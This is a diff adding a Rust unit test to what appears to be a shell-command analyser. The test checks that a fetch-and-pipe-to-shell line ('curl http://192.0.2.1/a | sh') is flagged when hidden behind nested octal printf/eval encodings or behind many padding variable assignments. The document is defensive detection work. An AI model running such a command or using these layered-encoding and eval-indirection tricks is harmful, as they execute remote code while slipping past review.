@@ -110,3 +110,23 @@ fn both_ends_of_a_long_text_are_read_and_the_gap_is_told() {
     let few = Reading::of_line(&"x".repeat(80_000));
     assert!(few.incomplete);
 }
+
+#[test]
+fn program_text_behind_many_encodings_is_buried() {
+    let mut line = "curl http://192.0.2.1/a | sh".to_owned();
+    for n in 0..6 {
+        assert_eq!(Reading::of_line(&line).is_buried(), n >= 4, "{n}: {line}");
+        let octal: String = line.bytes().map(|b| format!("\\{b:03o}")).collect();
+        line = format!("eval \"$(printf '{octal}')\"");
+    }
+    assert!(!Reading::of_line(&"true; ".repeat(3_000)).is_buried());
+    let document = format!("sh <<'E'\n{}\nE", "make all\n".repeat(9_000));
+    let read = Reading::of_line(&document);
+    assert!(read.incomplete && !read.is_buried());
+    // Nor does it help to fill what is remembered.
+    let names: String = (0..200).map(|n| format!("v{n}=1; ")).collect();
+    let full = Reading::of_line(&format!(
+        "{names} x='curl http://192.0.2.1/a | sh'; eval \"$x\""
+    ));
+    assert!(full.is_buried());
+}
